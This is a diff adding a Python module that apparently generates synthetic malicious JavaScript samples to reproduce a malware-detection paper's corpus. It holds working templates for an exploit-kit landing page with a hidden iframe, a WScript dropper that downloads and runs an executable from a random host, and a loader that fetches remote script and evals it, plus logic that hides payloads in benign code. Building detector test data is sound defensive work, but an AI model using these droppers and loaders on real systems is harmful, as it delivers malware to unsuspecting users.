@@ -1,0 +1,285 @@
+"""Synthetic malicious-JavaScript generators (DNC / Hynek / BSI stand-ins).
+
+The paper's malware feeds (§IV-A) cannot be redistributed; these
+generators reproduce the *population structure* its §IV-C analysis
+reports, so the detector pipeline can be exercised end-to-end:
+
+- per-source payload flavours (exploit-kit-like for DNC, dropper-like for
+  Hynek, JScript-loader-like for BSI),
+- per-source transformed rates (≈66% / 73% / 29%) and technique mixes
+  dominated by identifier obfuscation, string obfuscation and aggressive
+  minification,
+- "waves": syntactically identical but SHA-1-unique variants produced by
+  re-rolling identifier obfuscation on one seed sample,
+- partially transformed samples that hide a small payload inside a larger
+  regular file (the reason the paper's level 1 classifies many malicious
+  files as regular).
+"""
+
+from __future__ import annotations
+
+import random
+from dataclasses import dataclass, field
+
+from repro.corpus.generator import ProgramGenerator
+from repro.transform.base import Technique
+from repro.transform.pipeline import TransformationPipeline
+
+# Technique mixes per source, calibrated to Figure 5: (techniques, weight).
+SOURCE_PROFILES: dict[str, dict] = {
+    "dnc": {
+        "transformed_rate": 0.66,
+        "mixes": [
+            ((Technique.IDENTIFIER_OBFUSCATION,), 0.30),
+            ((Technique.STRING_OBFUSCATION,), 0.14),
+            ((Technique.MINIFICATION_ADVANCED,), 0.12),
+            ((Technique.MINIFICATION_SIMPLE,), 0.16),
+            ((Technique.IDENTIFIER_OBFUSCATION, Technique.STRING_OBFUSCATION), 0.10),
+            ((Technique.GLOBAL_ARRAY,), 0.06),
+            ((Technique.DEAD_CODE_INJECTION,), 0.06),
+            ((Technique.CONTROL_FLOW_FLATTENING,), 0.06),
+        ],
+    },
+    "hynek": {
+        "transformed_rate": 0.73,
+        "mixes": [
+            ((Technique.IDENTIFIER_OBFUSCATION,), 0.34),
+            ((Technique.STRING_OBFUSCATION,), 0.18),
+            ((Technique.MINIFICATION_ADVANCED,), 0.16),
+            ((Technique.IDENTIFIER_OBFUSCATION, Technique.STRING_OBFUSCATION), 0.10),
+            ((Technique.GLOBAL_ARRAY,), 0.08),
+            ((Technique.DEAD_CODE_INJECTION,), 0.07),
+            ((Technique.CONTROL_FLOW_FLATTENING,), 0.07),
+        ],
+    },
+    "bsi": {
+        "transformed_rate": 0.29,
+        "mixes": [
+            ((Technique.IDENTIFIER_OBFUSCATION,), 0.35),
+            ((Technique.STRING_OBFUSCATION,), 0.20),
+            ((Technique.MINIFICATION_ADVANCED,), 0.18),
+            ((Technique.DEAD_CODE_INJECTION,), 0.09),
+            ((Technique.GLOBAL_ARRAY,), 0.09),
+            ((Technique.CONTROL_FLOW_FLATTENING,), 0.09),
+        ],
+    },
+}
+
+
+@dataclass
+class MaliciousSample:
+    """One generated malicious script with its ground-truth metadata."""
+
+    source: str
+    origin: str  # dnc | hynek | bsi
+    transformed: bool
+    techniques: frozenset = field(default_factory=frozenset)
+    wave: int = -1
+
+
+class MaliciousGenerator:
+    """Generate a malicious corpus shaped like one of the paper's sources."""
+
+    def __init__(self, origin: str, seed: int = 0) -> None:
+        if origin not in SOURCE_PROFILES:
+            raise ValueError(f"Unknown source {origin!r}")
+        self.origin = origin
+        self.profile = SOURCE_PROFILES[origin]
+        self.rng = random.Random((seed, origin).__hash__() & 0x7FFFFFFF)
+        self._benign = ProgramGenerator(seed=self.rng.randrange(1 << 30))
+
+    # -- payload flavours ------------------------------------------------------
+
+    def _payload(self, plain: bool = False) -> str:
+        """One malicious payload; ``plain`` keeps the logic in the open
+        (word-based names, direct eval) for the untransformed population —
+        the paper's §IV-C manual analysis found exactly such samples."""
+        maker = {
+            "dnc": self._exploit_kit_payload,
+            "hynek": self._dropper_payload,
+            "bsi": self._loader_payload,
+        }[self.origin]
+        self._plain = plain
+        return maker()
+
+    def _exploit_kit_payload(self) -> str:
+        """Landing-page style: plugin probing, iframe injection, eval."""
+        rng = self.rng
+        host = f"{self._hexword()}.{rng.choice(('info', 'ru', 'cn', 'top'))}"
+        return f"""
+var plugins = navigator.plugins;
+var payloadHost = "http://{host}/gate.php";
+function probeVersions() {{
+  var found = [];
+  for (var i = 0; i < plugins.length; i++) {{
+    if (plugins[i].name.indexOf("Flash") !== -1 || plugins[i].name.indexOf("Java") !== -1) {{
+      found.push(plugins[i].name + "/" + plugins[i].version);
+    }}
+  }}
+  return found.join(";");
+}}
+function inject(target) {{
+  var frame = document.createElement("iframe");
+  frame.width = 1;
+  frame.height = 1;
+  frame.style.visibility = "hidden";
+  frame.src = target + "?v=" + encodeURIComponent(probeVersions());
+  document.body.appendChild(frame);
+}}
+if (document.cookie.indexOf("{self._hexword()}") === -1) {{
+  document.cookie = "{self._hexword()}=1; path=/";
+  inject(payloadHost);
+}}
+"""
+
+    def _dropper_payload(self) -> str:
+        """Hynek-collection style: WScript dropper fetching an executable."""
+        rng = self.rng
+        url = f"http://{self._hexword()}.{rng.choice(('biz', 'xyz', 'ru'))}/{self._hexword()}.exe"
+        return f"""
+var shell = new ActiveXObject("WScript.Shell");
+var request = new ActiveXObject("MSXML2.XMLHTTP");
+var stream = new ActiveXObject("ADODB.Stream");
+var target = shell.ExpandEnvironmentStrings("%TEMP%") + "\\\\{self._hexword()}.exe";
+function pull(address) {{
+  request.open("GET", address, false);
+  request.send();
+  if (request.status === 200) {{
+    stream.Open();
+    stream.Type = 1;
+    stream.Write(request.ResponseBody);
+    stream.SaveToFile(target, 2);
+    stream.Close();
+    return true;
+  }}
+  return false;
+}}
+if (pull("{url}")) {{
+  shell.Run(target, 0, false);
+}}
+"""
+
+    def _loader_payload(self) -> str:
+        """BSI JScript-loader style: staged string building flowing to eval."""
+        rng = self.rng
+        if getattr(self, "_plain", False):
+            url = f"http://{self._hexword()}.example.net/{self._hexword()}.js"
+            return f"""
+var loaderUrl = "{url}";
+function fetchScript(address) {{
+  var request = new ActiveXObject("MSXML2.XMLHTTP");
+  request.open("GET", address, false);
+  request.send();
+  if (request.status === 200) {{
+    return request.responseText;
+  }}
+  return "";
+}}
+var body = fetchScript(loaderUrl);
+if (body.length > 0) {{
+  eval(body);
+}} else {{
+  setTimeout(function () {{ eval(fetchScript(loaderUrl)); }}, {rng.randint(500, 5000)});
+}}
+"""
+        chunks = [self._hexword() for _ in range(rng.randint(3, 6))]
+        pieces = " + ".join(f'"{c}"' for c in chunks)
+        return f"""
+var stage = {pieces};
+var decoded = "";
+function rotate(text, shift) {{
+  var out = "";
+  for (var i = 0; i < text.length; i++) {{
+    out += String.fromCharCode(text.charCodeAt(i) ^ shift);
+  }}
+  return out;
+}}
+decoded = rotate(stage, {rng.randint(3, 60)});
+var runner = this["ev" + "al"];
+try {{
+  runner(decoded);
+}} catch (ignored) {{
+  setTimeout(function () {{ runner(decoded); }}, {rng.randint(500, 5000)});
+}}
+"""
+
+    _WORDS = (
+        "update", "stats", "track", "assets", "loader", "widget", "gate",
+        "panel", "data", "counter", "metrics", "banner", "popup", "helper",
+    )
+
+    def _hexword(self) -> str:
+        if getattr(self, "_plain", False):
+            return self.rng.choice(self._WORDS) + str(self.rng.randint(1, 99))
+        return "".join(self.rng.choice("0123456789abcdef") for _ in range(self.rng.randint(6, 12)))
+
+    # -- corpus assembly -----------------------------------------------------------
+
+    def generate(self, count: int, wave_size: int = 8) -> list[MaliciousSample]:
+        """Generate ``count`` samples including obfuscation waves.
+
+        The transformed share is decided per sample (Bernoulli at the
+        source profile's rate) *before* wave expansion, so waves scramble
+        which samples are clones without inflating the transformed rate.
+        """
+        n_transformed = sum(
+            self.rng.random() < self.profile["transformed_rate"] for _ in range(count)
+        )
+        samples: list[MaliciousSample] = []
+        for _ in range(count - n_transformed):
+            payload = self._payload(plain=True)
+            if self.rng.random() < 0.75:
+                # Plain malicious code usually hides inside a larger amount
+                # of regular code (the paper's partially-transformed case).
+                payload = self._benign.generate_program() + "\n" + payload
+            samples.append(
+                MaliciousSample(payload, self.origin, False, frozenset(), -1)
+            )
+        wave_id = 0
+        remaining = n_transformed
+        while remaining > 0:
+            payload = self._payload(plain=False)
+            if self.rng.random() < 0.35:
+                payload = self._benign.generate_program() + "\n" + payload
+            mix = self._pick_mix()
+            if (
+                mix == (Technique.IDENTIFIER_OBFUSCATION,)
+                and remaining >= 2
+                and self.rng.random() < 0.5
+            ):
+                # A wave: one payload, many hex-renamed variants.
+                wave_id += 1
+                for _ in range(min(self.rng.randint(2, wave_size), remaining)):
+                    pipeline = TransformationPipeline(mix)
+                    variant = pipeline.transform(payload, self.rng)
+                    samples.append(
+                        MaliciousSample(
+                            variant, self.origin, True, pipeline.labels, wave_id
+                        )
+                    )
+                    remaining -= 1
+                continue
+            pipeline = TransformationPipeline(mix)
+            try:
+                transformed_source = pipeline.transform(payload, self.rng)
+            except (SyntaxError, ValueError):  # pragma: no cover - defensive
+                continue
+            samples.append(
+                MaliciousSample(
+                    transformed_source, self.origin, True, pipeline.labels, -1
+                )
+            )
+            remaining -= 1
+        self.rng.shuffle(samples)
+        return samples
+
+    def _pick_mix(self) -> tuple[Technique, ...]:
+        mixes = self.profile["mixes"]
+        total = sum(weight for _mix, weight in mixes)
+        roll = self.rng.random() * total
+        acc = 0.0
+        for mix, weight in mixes:
+            acc += weight
+            if roll <= acc:
+                return mix
+        return mixes[-1][0]
